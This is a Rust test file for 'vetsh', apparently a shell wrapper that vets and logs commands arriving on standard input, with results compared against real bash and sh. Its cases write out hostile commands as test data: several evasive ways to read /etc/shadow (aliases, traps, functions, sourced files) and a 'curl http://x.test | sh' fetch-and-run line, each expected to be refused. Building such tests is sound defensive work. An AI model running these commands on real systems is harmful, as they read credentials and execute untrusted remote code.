//! A standard input that stays open: commands that arrive one by one run as they do in the real shell, and none that was not
//! judged and recorded.

#![allow(clippy::disallowed_methods, reason = "a test runs other programs")]

use std::collections::BTreeMap;
use std::io::Write;
use std::os::unix::process::ExitStatusExt;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use serde::Deserialize;

#[derive(Deserialize)]
struct Scripts {
    script: Vec<Script>,
}

#[derive(Deserialize)]
struct Script {
    text: String,
    shells: Option<Vec<String>>,
    /// Some command reads what follows. dash takes as much of its script as is there, and leaves such a command without.
    reads: Option<bool>,
}

/// What a run leaves.
#[derive(Debug, PartialEq, Eq)]
struct Trace {
    stdout: String,
    stderr: String,
    code: Option<i32>,
    signal: Option<i32>,
    files: BTreeMap<String, String>,
}

/// How a script is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Pace {
    /// All of it at once, with its end.
    Ended,
    /// All of it at once; the end comes later.
    AtOnce,
    /// Line by line.
    ByLine,
}

/// Longer than it is waited for the end of a script.
const PAUSE: Duration = Duration::from_millis(400);

fn house() -> tempfile::TempDir {
    let house = tempfile::tempdir().expect("a scratch directory");
    std::fs::create_dir(house.path().join("config")).expect("a folder");
    std::fs::write(house.path().join("config/policy.toml"), "format = 1\n[approval]\nwait = \"0s\"\n")
        .expect("a policy");
    house
}

fn workspace() -> tempfile::TempDir {
    let scratch = tempfile::tempdir().expect("a scratch directory");
    let work = scratch.path().join("work");
    std::fs::create_dir_all(work.join("sub")).expect("a folder");
    std::fs::write(work.join("a.txt"), "one\ntwo\nthree\n").expect("a file");
    std::fs::write(work.join("sub/b.txt"), "four\n").expect("a file");
    let made = Command::new("git").args(["init", "-q", "-b", "feature"]).current_dir(&work).status().expect("git runs");
    assert!(made.success());
    scratch
}

fn files(folder: &Path) -> BTreeMap<String, String> {
    let mut found = BTreeMap::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(at) = folders.pop() {
        for entry in std::fs::read_dir(&at).expect("a readable folder").flatten() {
            let path = entry.path();
            let name = path.strip_prefix(folder).expect("below").display().to_string();
            if name.starts_with(".git") {
                continue;
            }
            if path.is_dir() {
                folders.push(path);
            } else {
                found.insert(name, String::from_utf8_lossy(&std::fs::read(&path).expect("a file")).into_owned());
            }
        }
    }
    found
}

/// Starts a shell as a client does, in `work`, its standard streams ours.
fn start(words: &[&str], work: &Path) -> Child {
    Command::new("/bin/bash")
        .args(["-c", "\"$@\"; exit $?", "client"])
        .args(words)
        .current_dir(work)
        .env("LC_ALL", "C.UTF-8")
        .env_remove("CDPATH")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("bash runs")
}

/// Ours as `shell`.
fn ours<'a>(shell: &'a str, house: &'a str) -> Vec<&'a str> {
    vec![env!("CARGO_BIN_EXE_vetsh"), "--root", house, "--as", shell]
}

fn run(words: &[&str], text: &str, pace: Pace) -> Trace {
    let scratch = workspace();
    let work = scratch.path().join("work");
    let mut child = start(words, &work);
    let mut input = child.stdin.take().expect("a pipe");
    let text = text.to_owned();
    let writer = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(20));
        match pace {
            Pace::Ended => {
                let _ = input.write_all(text.as_bytes());
                return;
            }
            Pace::AtOnce => {
                let _ = input.write_all(text.as_bytes());
            }
            Pace::ByLine => {
                std::thread::sleep(PAUSE);
                for line in text.split_inclusive('\n') {
                    if input.write_all(line.as_bytes()).and_then(|()| input.flush()).is_err() {
                        return;
                    }
                    std::thread::sleep(Duration::from_millis(30));
                }
            }
        }
        std::thread::sleep(PAUSE);
    });
    let output = child.wait_with_output().expect("an end");
    writer.join().expect("written");
    let hide = |bytes: &[u8]| {
        let text = String::from_utf8_lossy(bytes).replace(&work.display().to_string(), "WORK");
        text.lines()
            .filter(|line| !line.starts_with("/bin/bash: line 1: "))
            .map(|line| format!("{line}\n"))
            .collect::<String>()
    };
    Trace {
        stdout: hide(&output.stdout),
        stderr: hide(&output.stderr),
        code: output.status.code(),
        signal: output.status.signal(),
        files: files(&work),
    }
}

#[test]
fn scripts_that_arrive_run_as_in_the_real_shell() {
    let text = include_str!("cases/serve/scripts.toml");
    let scripts: Scripts = toml::from_str(text).expect("the cases");
    let house = house();
    let root = house.path().display().to_string();
    let mut work = Vec::new();
    for script in &scripts.script {
        for shell in ["bash", "sh"] {
            if script.shells.as_ref().is_none_or(|shells| shells.iter().any(|known| known == shell)) {
                let paces = [Pace::Ended, Pace::AtOnce, Pace::ByLine].into_iter();
                let paces = paces.filter(|pace| *pace == Pace::ByLine || shell == "bash" || script.reads != Some(true));
                // A script that ended is a file, and what its commands would read is judged as commands at first.
                let whole = script.reads != Some(true) && !script.text.contains("-p /dev/stdin");
                let paces = paces.filter(|pace| *pace != Pace::Ended || whole);
                work.extend(paces.map(|pace| (script.text.as_str(), shell, pace)));
            }
        }
    }
    let next = AtomicUsize::new(0);
    let (wrong, asked) = (Mutex::new(Vec::new()), Mutex::new(Vec::new()));
    let compare = |(text, shell, pace): (&str, &str, Pace)| {
        // A busy machine orders what runs side by side: what differs is run again.
        for tries in (0..3).rev() {
            let real = run(&[shell], text, pace);
            let ours = run(&ours(shell, &root), text, pace);
            // As a whole, to write a script and run it is one thing.
            if pace == Pace::Ended && ours.stderr.contains("core.flow-write-then-run") {
                return;
            }
            if ours.stderr.contains("vetsh: ") {
                return asked.lock().expect("a list").push(format!("{shell} {pace:?}\n{text}{}", ours.stderr));
            }
            if real == ours {
                return;
            }
            if tries == 0 {
                let told = format!("{shell} {pace:?}\n{text}  real {real:?}\n  ours {ours:?}");
                wrong.lock().expect("a list").push(told);
            }
        }
    };
    std::thread::scope(|scope| {
        for _ in 0..6 {
            scope.spawn(|| {
                while let Some(case) = work.get(next.fetch_add(1, Ordering::Relaxed)) {
                    compare(*case);
                }
            });
        }
    });
    let (wrong, asked) = (wrong.into_inner().expect("a list"), asked.into_inner().expect("a list"));
    assert!(wrong.is_empty(), "{} of {} differ:\n{}", wrong.len(), work.len(), wrong.join("\n"));
    assert!(asked.is_empty(), "{}", asked.join("\n"));
    assert!(work.len() >= 400, "only {} runs", work.len());
}

/// A shell that is served, one line after the other.
struct Served {
    child: Child,
    input: Option<std::process::ChildStdin>,
    house: tempfile::TempDir,
    work: tempfile::TempDir,
}

impl Served {
    fn start(shell: &str) -> Served {
        let (house, work) = (house(), workspace());
        let root = house.path().display().to_string();
        let mut child = start(&ours(shell, &root), &work.path().join("work"));
        let input = child.stdin.take();
        // It waits for its first line once it is on record.
        let log = house.path().join("state/audit");
        let begun = || {
            let days = std::fs::read_dir(&log).into_iter().flatten().flatten();
            days.filter_map(|day| std::fs::read_to_string(day.path()).ok()).any(|text| text.contains("one by one"))
        };
        let end = Instant::now() + Duration::from_secs(30);
        while !begun() {
            assert!(Instant::now() < end, "nothing is served");
            std::thread::sleep(Duration::from_millis(10));
        }
        Served { child, input, house, work }
    }

    fn line(&mut self, line: &str) {
        let input = self.input.as_mut().expect("an open input");
        let _ = input.write_all(line.as_bytes()).and_then(|()| input.write_all(b"\n"));
        std::thread::sleep(Duration::from_millis(60));
    }

    /// Closes the input: standard output, standard error, exit code.
    fn end(mut self) -> (String, String, Option<i32>, Vec<serde_json::Value>) {
        drop(self.input.take());
        let house = self.house.path().join("state/audit");
        let output = self.child.wait_with_output().expect("an end");
        let records = std::fs::read_dir(house).expect("a log").flatten().map(|entry| entry.path());
        let records = records.filter(|path| path.extension().is_some_and(|end| end == "jsonl"));
        let text: String = records.map(|path| std::fs::read_to_string(path).expect("text")).collect();
        let records = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
        let told = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
        drop(self.work);
        (told(&output.stdout), told(&output.stderr), output.status.code(), records)
    }

    /// The processes of this shell's client that are ours, and the shell.
    fn processes(&self) -> (u32, u32) {
        let client = self.child.id();
        let stat = |pid: u32| std::fs::read_to_string(format!("/proc/{pid}/stat")).ok();
        let all = std::fs::read_dir("/proc").expect("processes").flatten();
        let all: Vec<u32> = all.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect();
        let parent = |pid: u32| -> Option<u32> { stat(pid)?.rsplit(") ").next()?.split(' ').nth(1)?.parse().ok() };
        let shell = all.iter().copied().find(|pid| parent(*pid) == Some(client)).expect("a shell");
        let feeder = all.iter().copied().find(|pid| {
            let log = std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            *pid != shell && *pid != client && log.contains(&self.house.path().display().to_string())
        });
        (shell, feeder.expect("a feeder"))
    }
}

fn launched(records: &[serde_json::Value]) -> Vec<&str> {
    let launches = records.iter().filter(|record| record["kind"] == "launch");
    launches.map(|record| record["line"].as_str().unwrap_or_default().trim_end()).collect()
}

#[test]
fn each_command_is_judged_by_what_the_ones_before_have_left() {
    for (shell, lines, refused, rule) in [
        ("bash", &["cd /etc", "cat shadow"][..], 1, "core.reads-credential"),
        ("sh", &["cd /etc", "cat shadow"], 1, "core.reads-credential"),
        ("bash", &["p=/etc/shadow", "cat $p"], 1, "core.reads-credential"),
        ("bash", &["f() { cat \"$1\"; }", "f a.txt", "f /etc/shadow"], 2, "core.reads-credential"),
        ("sh", &["f() { cat \"$1\"; }", "f a.txt", "f /etc/shadow"], 2, "core.reads-credential"),
        ("bash", &["set -- /etc/shadow", "cat \"$1\""], 1, "core.reads-credential"),
        ("bash", &["cd sub", "cd ..", "cd ..", "cd /", "cd etc", "cat ./shadow"], 5, "core.reads-credential"),
        ("bash", &["shopt -s expand_aliases", "alias ls='cat /etc/shadow'", "ls"], 2, "core.reads-credential"),
        (
            "bash",
            &["printf 'v() { cat /etc/shadow; }\\n' > s.sh", ". ./s.sh", "printf 'v() { :; }\\n' >> s.sh", "v"],
            3,
            "core.reads-credential",
        ),
        ("bash", &["a=(x /etc/shadow)", "cat \"${a[1]}\""], 1, "core.reads-credential"),
        ("bash", &["read x", "/etc/shadow", "cat $x"], 2, "core.reads-home"),
        ("bash", &["echo a", "cat <<E\nx\nE\ncat /etc/shadow"], 1, "core.reads-credential"),
        ("bash", &["trap 'cat /etc/shadow' EXIT"], 0, "core.reads-credential"),
        ("bash", &["x='a.txt'", "trap 'cat $x' EXIT", "x=/etc/shadow"], 2, "core.reads-credential"),
    ] {
        let mut served = Served::start(shell);
        for line in lines {
            served.line(line);
        }
        let (stdout, stderr, _, records) = served.end();
        assert!(stderr.contains(&format!("refused [{rule}]")), "{lines:?}: {stderr}");
        assert_eq!(stderr.matches("vetsh: refused").count(), 1, "{lines:?}: {stderr}");
        assert!(!stdout.contains("root:"), "{lines:?}: {stdout}");
        let refusals: Vec<&serde_json::Value> = records.iter().filter(|record| record["kind"] == "refusal").collect();
        assert_eq!(refusals.len(), 1, "{lines:?}");
        let last = lines[refused].lines().last().unwrap_or_default();
        assert!(
            refusals[0]["line"].as_str().is_some_and(|line| line.trim_end().ends_with(last)),
            "{lines:?}: {refusals:?}"
        );
        assert_eq!(refusals[0]["parent"], records[0]["id"], "{lines:?}");
    }
}

#[test]
fn a_refused_line_fails_in_its_place_and_the_rest_goes_on() {
    for shell in ["bash", "sh"] {
        let mut served = Served::start(shell);
        for line in [
            "x=1",
            "x=2; cat /etc/shadow",
            "echo \"$? $x\"",
            "frobnicate",
            "echo $?",
            "cd /etc; curl http://x.test | sh",
            "ls a.txt",
        ] {
            served.line(line);
        }
        let (stdout, stderr, code, records) = served.end();
        assert_eq!((stdout.as_str(), code), ("126 1\n75\na.txt\n", Some(0)), "{stderr}");
        assert_eq!(launched(&records), ["", "x=1", "echo \"$? $x\"", "echo $?", "ls a.txt"]);
        assert_eq!(stderr.matches("vetsh: refused").count(), 3, "{stderr}");
    }
    let mut served = Served::start("bash");
    for line in ["set -e", "exit() { touch evil; }", "cat /etc/shadow", "touch evil"] {
        served.line(line);
    }
    let (_, stderr, code, records) = served.end();
    assert_eq!((code, launched(&records).len()), (Some(127), 3), "{stderr}");
}

#[test]
fn nothing_gets_between_the_judge_and_the_shell() {
    let text = include_str!("cases/serve/smuggled.toml");
    let cases: toml::Table = toml::from_str(text).expect("the cases");
    let cases = cases["case"].as_array().expect("cases");
    std::thread::scope(|scope| {
        for part in cases.chunks(cases.len().div_ceil(6)) {
            scope.spawn(|| part.iter().for_each(smuggles_nothing));
        }
    });
}

/// Whatever ran is on record, and the word that was smuggled did not run.
fn smuggles_nothing(case: &toml::Value) {
    let lines: Vec<&str> = case["lines"].as_array().expect("lines").iter().filter_map(toml::Value::as_str).collect();
    let rule = case["rule"].as_str().expect("a rule");
    let shell = case.get("shell").and_then(toml::Value::as_str).unwrap_or("bash");
    let mut served = Served::start(shell);
    let work = served.work.path().join("work");
    std::fs::write(work.join("evil.sh"), "touch smuggled\n").expect("a file");
    for line in &lines {
        served.line(line);
    }
    served.line("echo the end");
    let ran = work.join("smuggled").exists();
    let (stdout, stderr, code, records) = served.end();
    // Text that reaches the input is a line like any other.
    assert!(!ran || launched(&records).contains(&"touch smuggled"), "{lines:?} ran what was not judged: {stderr}");
    if rule.is_empty() {
        assert!(!stderr.contains("vetsh: refused"), "{lines:?}: {stderr}");
    } else {
        assert!(stderr.contains(&format!("refused [{rule}]")), "{lines:?}: {stderr}");
    }
    // What was printed was printed by what is on record.
    let ended = launched(&records).contains(&"echo the end");
    assert!(ended || !stdout.contains("the end"), "{lines:?}: {stdout} {stderr} {code:?}");
}

#[test]
fn the_shell_and_its_feeder_end_with_each_other() {
    let signal = |pid: u32, name: &str| {
        let sent = Command::new("kill").args([format!("-{name}"), pid.to_string()]).status().expect("kill runs");
        assert!(sent.success());
        std::thread::sleep(Duration::from_millis(100));
    };
    let gone = |pid: u32| {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        stat.is_empty() || stat.rsplit(") ").next().is_some_and(|rest| rest.starts_with('Z'))
    };
    // Without its feeder the shell finds the end of its input; nothing that comes then is run.
    let mut served = Served::start("bash");
    served.line("echo one");
    let (shell, feeder) = served.processes();
    for harmless in ["INT", "TERM", "HUP", "TSTP"] {
        signal(feeder, harmless);
    }
    served.line("echo two");
    signal(feeder, "KILL");
    served.line("touch smuggled; echo three");
    let work = served.work.path().join("work");
    assert!(!work.join("smuggled").exists() && gone(shell));
    let (stdout, _, code, records) = served.end();
    assert_eq!((stdout.as_str(), code), ("one\ntwo\n", Some(0)));
    assert_eq!(launched(&records), ["", "echo one", "echo two"]);

    // Without its shell the feeder is gone, though the input is still open.
    let mut served = Served::start("bash");
    served.line("(sleep 2; :) & echo one");
    let (shell, feeder) = served.processes();
    signal(shell, "KILL");
    assert!(gone(feeder));
    served.end();

    // What the shell becomes has the input for itself.
    let mut served = Served::start("bash");
    served.line("exec cat");
    served.line("touch smuggled");
    let (stdout, stderr, code, _) = served.end();
    assert_eq!((stdout.as_str(), stderr.as_str(), code), ("touch smuggled\n", "", Some(0)));
}

#[test]
fn a_script_that_gives_its_shell_other_commands_is_asked_about() {
    let (house, work) = (house(), workspace());
    let root = house.path().display().to_string();
    std::fs::write(work.path().join("work/evil.sh"), "echo evil\n").expect("a file");
    let mut child = start(&ours("bash", &root), &work.path().join("work"));
    child.stdin.take().expect("a pipe").write_all(b"exec < evil.sh\n").expect("written");
    let output = child.wait_with_output().expect("an end");
    assert_eq!(output.status.code(), Some(75), "{output:?}");
    assert!(output.stdout.is_empty(), "{output:?}");
}

#[test]
fn no_line_is_put_together_from_earlier_ones() {
    let (house, work) = (house(), workspace());
    let (root, work) = (house.path().display().to_string(), work.path().join("work"));
    let text = "echo '$(touch smuggled)'\necho \"!!:1\"\n";
    std::fs::write(work.join("lines.sh"), text).expect("a script");
    for more in [
        &["--norc", "-i"][..],
        &["--norc", "-i", "lines.sh"],
        &["--norc", "-i", "--", "lines.sh", "a"],
        &["-o", "history", "-o", "histexpand", "lines.sh"],
        &["-o", "history", "-H", "lines.sh", "b"],
    ] {
        let mut child = start(&[ours("bash", &root), more.to_vec()].concat(), &work);
        let _ = child.stdin.take().expect("a pipe").write_all(text.as_bytes());
        let output = child.wait_with_output().expect("an end");
        let told = String::from_utf8_lossy(&output.stdout);
        assert!(told.contains("$(touch smuggled)\n!!:1"), "{more:?}: {output:?}");
        assert!(!work.join("smuggled").exists(), "{more:?}");
    }
}

#[test]
fn what_a_command_leaves_of_a_script_is_judged_as_it_is_left() {
    for shell in ["bash", "sh"] {
        for (before, rest) in [
            ("head -c 7 > /dev/null\n", "echo '\ncat /etc/shadow\n#'\n"),
            ("read x\n", "echo '\ncat /etc/shadow\n#'\n"),
            ("read x; read y\n", "cat <<E\nx\ncat /etc/shadow\nE\n"),
        ] {
            let (house, work) = (house(), workspace());
            let root = house.path().display().to_string();
            let mut child = start(&ours(shell, &root), &work.path().join("work"));
            let text = format!("{before}{rest}");
            child.stdin.take().expect("a pipe").write_all(text.as_bytes()).expect("written");
            let output = child.wait_with_output().expect("an end");
            let told = String::from_utf8_lossy(&output.stderr);
            assert!(told.contains("refused [core.reads-credential]"), "{text}: {output:?}");
            assert!(!String::from_utf8_lossy(&output.stdout).contains("root:"), "{text}: {output:?}");
        }
    }
}
